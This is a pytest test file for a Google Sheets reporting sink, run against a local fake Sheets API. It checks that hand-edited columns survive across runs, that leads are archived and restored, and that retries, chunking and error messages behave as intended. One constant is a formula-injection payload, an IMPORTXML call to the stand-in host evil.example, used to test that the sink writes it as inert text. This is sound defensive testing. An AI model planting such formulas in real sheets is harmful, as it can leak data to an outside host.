"""The Google Sheet sink against a local Sheets API: real gspread and google-auth code.

The team's edits between runs go through gspread's high-level API too, as a
person's would through the UI: the same server, the same rules.
"""

from __future__ import annotations

import json
import uuid
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import gspread
import polars as pl
import pytest
from google.oauth2 import service_account

from common.adapters.local.folder_blobstore import FolderBlobStore
from common.recipe import Recipe, load_recipe
from common.recipe.model import GSheets
from common.reporting._base import ReportContext
from common.reporting.gsheets import GSheetsSink
from common.reporting.sheet_merge import ARCHIVED_AT
from common.reporting.sheets_client import SCOPES, RequestStats, retrying_client, sheets_backoff
from common.settings import Settings
from tests.support.fake_sheets import FakeSheets, offline_google_auth

RECIPES = Path(__file__).resolve().parents[2] / "recipes"
T0 = datetime(2026, 11, 20, 18, 0, tzinfo=UTC)
INJECTION = '=IMPORTXML("https://evil.example/x","//a")'


@pytest.fixture(autouse=True)
def _offline(monkeypatch: pytest.MonkeyPatch) -> None:
    offline_google_auth(monkeypatch)


@pytest.fixture(scope="module")
def fake() -> Iterator[FakeSheets]:
    with FakeSheets() as server:
        yield server


@pytest.fixture(scope="module")
def demo() -> Recipe:
    return load_recipe("demo", RECIPES)


@pytest.fixture
def sheet_id(fake: FakeSheets) -> Iterator[str]:
    """A fresh spreadsheet (one empty 1000×26 tab `Sheet1`), unique to the test."""
    name = f"sheet-{uuid.uuid4().hex[:12]}"
    fake.create(name)
    yield name
    fake.clear_failures()
    fake.books.pop(name, None)


def _settings(fake: FakeSheets, **overrides: Any) -> Settings:
    values: dict[str, Any] = {
        "gsheets_api_base": fake.api_base,
        "gsheets_credentials_json": json.dumps(fake.service_account_info()),
        "gsheets_backoff_seconds": 0.001,
        **overrides,
    }
    return Settings(**values)


class Sleeps(list[float]):
    def __call__(self, seconds: float) -> None:
        self.append(seconds)


def publish(
    fake: FakeSheets,
    recipe: Recipe,
    sheet_id: str,
    frame: pl.DataFrame,
    *,
    worksheet: str | None = None,
    now: datetime = T0,
    sleeps: Sleeps | None = None,
    **settings: Any,
) -> dict[str, Any]:
    """One run's Sheet update; the record, with the API calls it made under `calls`."""
    before = len(fake.calls)
    outputs: dict[str, str] = {}
    context = ReportContext(
        run_id="run",
        recipe=recipe,
        run={"status": "succeeded"},
        analysis=frame,
        ignored=frame.clear(),
        outputs=outputs,
        settings=_settings(fake, **settings),
        blobs=FolderBlobStore(Path("/nonexistent")),
        stamp="s",
        now=now,
    )
    sink = GSheetsSink(
        GSheets(sheet_id=sheet_id, worksheet=worksheet),
        sleep=sleeps if sleeps is not None else Sleeps(),
    )
    record = sink.publish(context)
    record["calls"] = fake.calls[before:]
    if record["status"] == "ok":
        assert outputs["sheet"] == record["url"]
    return record


def team(fake: FakeSheets) -> gspread.Client:
    """gspread as the sales team uses it (same service account, same fake)."""
    creds = service_account.Credentials.from_service_account_info(
        fake.service_account_info(), scopes=list(SCOPES)
    )
    client = gspread.Client(creds)
    client.http_client = retrying_client(
        creds, api_base=fake.api_base, policy=sheets_backoff(0, 0.01), stats=RequestStats()
    )
    return client


def leads(keys: list[str], state: str = "stalled", **extra: list[Any]) -> pl.DataFrame:
    return pl.DataFrame(
        {
            "lead_key": keys,
            "name": [f"Name {k}" for k in keys],
            "conversation_state": [state] * len(keys),
            "hours": [int(k[1:]) * 10 for k in keys],
            "text": [INJECTION if k == "L3" else f"hola {k}" for k in keys],
            **extra,
        }
    )


def by_key(values: list[list[Any]]) -> dict[str, dict[str, Any]]:
    header = values[0]
    return {
        row[0]: dict(zip(header, row + [""] * (len(header) - len(row)), strict=True))
        for row in values[1:]
        if row and row[0]
    }


def row_of(values: list[list[Any]], key: str) -> int:
    return next(i for i, row in enumerate(values) if row and row[0] == key)


def test_hand_columns_survive_three_runs_with_leads_coming_and_going(
    fake: FakeSheets, demo: Recipe, sheet_id: str
) -> None:
    # Run 1: six leads into an empty sheet.
    first = publish(fake, demo, sheet_id, leads(["L1", "L2", "L3", "L4", "L5", "L6"]))
    assert first["status"] == "ok" and first["added"] == 6
    # The team adds three columns and works the list.
    ws = team(fake).open_by_key(sheet_id).sheet1
    ws.update([["notes", "owner", "status"]], "F1")
    ws.update([["call after 5pm"]], "F3")  # L2
    ws.update([["wrong number", "Ana"]], "F5:G5")  # L4
    ws.update([["=TODAY()"]], "H5", value_input_option="USER_ENTERED")  # L4
    ws.format("F5", {"backgroundColor": {"red": 1, "green": 0.8, "blue": 0.8}})
    ws.update([["Luis"]], "G6")  # L5
    ws.update([["", "", "", "", "", "totals: 2 called"]], "A8:F8")  # a row without key

    # Run 2: L1, L5, L6 left the report; L7 is new; L2's state changed.
    second = publish(
        fake,
        demo,
        sheet_id,
        leads(["L2", "L3", "L4", "L7"], "handoff"),
        now=T0 + timedelta(hours=1),
    )
    assert (second["updated"], second["added"], second["archived"]) == (3, 1, 3)
    main = fake.values(sheet_id, "Sheet1")
    rows = by_key(main)
    assert list(rows) == ["L2", "L3", "L4", "L7"]
    assert rows["L2"]["notes"] == "call after 5pm" and rows["L2"]["conversation_state"] == "handoff"
    assert rows["L4"]["notes"] == "wrong number" and rows["L4"]["owner"] == "Ana"
    l4 = row_of(main, "L4")
    assert fake.raw_cell(sheet_id, "Sheet1", l4, 7) == {"f": "=TODAY()"}  # a formula stays one
    assert fake.formats(sheet_id, "Sheet1") == {
        (l4, 5): {"backgroundColor": {"red": 1, "green": 0.8, "blue": 0.8}}
    }
    assert ["", "", "", "", "", "totals: 2 called"] in main  # untouched
    archive = by_key(fake.values(sheet_id, "Sheet1 archive"))
    assert set(archive) == {"L1", "L5", "L6"}
    assert (
        archive["L5"]["owner"] == "Luis"
        and archive["L5"][ARCHIVED_AT] == "2026-11-20T19:00:00+00:00"
    )
    # A lead's text that looks like a formula was written as text.
    l3 = row_of(main, "L3")
    assert fake.raw_cell(sheet_id, "Sheet1", l3, 4) == {"v": INJECTION}
    ws.update([["sent the offer"]], f"F{row_of(main, 'L7') + 1}")

    # Run 3: L5 comes back, L2 and L4 leave, L8 is new, and the recipe adds a `score` column.
    third_frame = leads(["L3", "L5", "L7", "L8"], "stalled").with_columns(
        pl.Series("score", [70, 40, 90, 10])
    )
    third = publish(fake, demo, sheet_id, third_frame, now=T0 + timedelta(hours=2))
    assert third["restored"] == 1 and third["archived"] == 2 and third["added"] == 2
    main = fake.values(sheet_id, "Sheet1")
    assert main[0] == [
        "lead_key", "name", "conversation_state", "hours", "text", "score", "notes", "owner", "status"
    ]  # fmt: skip
    rows = by_key(main)
    assert rows["L5"]["owner"] == "Luis" and rows["L5"]["score"] == "40"  # back, with its owner
    assert rows["L7"]["notes"] == "sent the offer" and rows["L7"]["score"] == "90"
    assert rows["L8"]["notes"] == "" and rows["L3"]["text"] == INJECTION
    archive = by_key(fake.values(sheet_id, "Sheet1 archive"))
    assert set(archive) == {"L1", "L6", "L2", "L4"}  # L5 left the archive
    assert archive["L4"]["notes"] == "wrong number" and archive["L4"]["owner"] == "Ana"
    assert archive["L2"]["notes"] == "call after 5pm"
    # Each run: one token, at most four Sheets API calls, none per row.
    for record in (first, second, third):
        kinds = [c.kind for c in record["calls"]]
        assert kinds.count("token") == 1
        assert len(kinds) - 1 == record["requests"] <= 4, kinds
        assert all(c.status == 200 for c in record["calls"])


def test_a_429_storm_is_retried_to_success(fake: FakeSheets, demo: Recipe, sheet_id: str) -> None:
    publish(fake, demo, sheet_id, leads(["L1", "L2"]))
    fake.fail_next(5, status=429)
    sleeps = Sleeps()
    record = publish(fake, demo, sheet_id, leads(["L2", "L3"]), sleeps=sleeps)
    assert record["status"] == "ok" and record["retries"] == 5
    assert [c.status for c in record["calls"]].count(429) == 5
    assert len(sleeps) == 5
    assert list(by_key(fake.values(sheet_id, "Sheet1"))) == ["L2", "L3"]
    assert list(by_key(fake.values(sheet_id, "Sheet1 archive"))) == ["L1"]


def test_retry_after_is_honoured(fake: FakeSheets, demo: Recipe, sheet_id: str) -> None:
    fake.fail_next(2, status=429, retry_after="3")
    sleeps = Sleeps()
    record = publish(fake, demo, sheet_id, leads(["L1"]), sleeps=sleeps)
    assert record["status"] == "ok" and sleeps == [3.0, 3.0]


def test_a_storm_longer_than_the_retries_is_recorded_not_raised(
    fake: FakeSheets, demo: Recipe, sheet_id: str
) -> None:
    fake.fail_next(10, status=429)
    record = publish(fake, demo, sheet_id, leads(["L1"]), gsheets_max_retries=3)
    assert record["status"] == "failed"
    assert "429" in record["error"] and "quota" in record["error"].lower()
    assert record["requests"] == 4 and record["retries"] == 3


@pytest.mark.parametrize("n", [10, 3000])
def test_requests_per_run_do_not_grow_with_rows(
    fake: FakeSheets, demo: Recipe, sheet_id: str, n: int
) -> None:
    keys = [f"L{i}" for i in range(1, n + 1)]
    first = publish(fake, demo, sheet_id, leads(keys))
    again = publish(fake, demo, sheet_id, leads(keys[1:] + [f"L{n + 1}"]))
    for record in (first, again):
        assert record["status"] == "ok"
        assert record["requests"] <= 4 and record["requests_by_kind"]["values"] == 1
    assert len(fake.values(sheet_id, "Sheet1")) == n + 1


def test_large_writes_are_chunked_under_the_request_size_limit(
    fake: FakeSheets, demo: Recipe, sheet_id: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(fake, "max_body_bytes", 60_000)
    frame = leads([f"L{i}" for i in range(1, 2001)])
    unchunked = publish(fake, demo, sheet_id, frame, gsheets_max_request_bytes=10_000_000)
    assert unchunked["status"] == "failed" and "payload size exceeds" in unchunked["error"]

    record = publish(fake, demo, sheet_id, frame, gsheets_max_request_bytes=50_000)
    assert record["status"] == "ok"
    writes = [c for c in record["calls"] if c.kind == "values.batchUpdate"]
    assert len(writes) == record["requests_by_kind"]["values"] > 1
    assert all(c.bytes <= 50_000 for c in record["calls"])
    # The bound: metadata + read + structure + ⌈bytes / limit⌉ value writes.
    total = sum(c.bytes for c in writes)
    assert len(writes) <= -(-total // 40_000)
    assert record["requests"] == 2 + record["requests_by_kind"].get("structure", 0) + len(writes)
    values = fake.values(sheet_id, "Sheet1")
    assert len(values) == 2001 and values[-1][:2] == ["L2000", "Name L2000"]


def test_a_named_worksheet_is_created_when_missing(
    fake: FakeSheets, demo: Recipe, sheet_id: str
) -> None:
    record = publish(fake, demo, sheet_id, leads(["L1", "L2"]), worksheet="Stalled leads")
    assert record["status"] == "ok" and record["worksheet"] == "Stalled leads"
    assert record["url"].endswith("#gid=1")
    assert by_key(fake.values(sheet_id, "Stalled leads"))["L2"]["hours"] == "20"
    publish(fake, demo, sheet_id, leads(["L2"]), worksheet="Stalled leads")
    assert list(by_key(fake.values(sheet_id, "Stalled leads archive"))) == ["L1"]


def test_an_unshared_sheet_says_whom_to_share_it_with(fake: FakeSheets, demo: Recipe) -> None:
    fake.create("sheet-not-shared", shared=False)
    record = publish(fake, demo, "sheet-not-shared", leads(["L1"]))
    assert record["status"] == "failed"
    assert f"share the sheet with `{fake.client_email}` as Editor" in record["error"]


def test_a_tab_this_pipeline_did_not_write_is_never_overwritten(
    fake: FakeSheets, demo: Recipe, sheet_id: str
) -> None:
    team(fake).open_by_key(sheet_id).sheet1.update([["Name", "Phone"], ["Ann", "555"]], "A1")
    record = publish(fake, demo, sheet_id, leads(["L1"]))
    assert record["status"] == "failed" and "no `lead_key` column" in record["error"]
    assert fake.values(sheet_id, "Sheet1") == [["Name", "Phone"], ["Ann", "555"]]


def test_bad_credentials_fail_softly(fake: FakeSheets, demo: Recipe, sheet_id: str) -> None:
    record = publish(fake, demo, sheet_id, leads(["L1"]), gsheets_credentials_json="{not json")
    assert (
        record["status"] == "failed"
        and "LR_GSHEETS_CREDENTIALS_JSON is not JSON" in record["error"]
    )
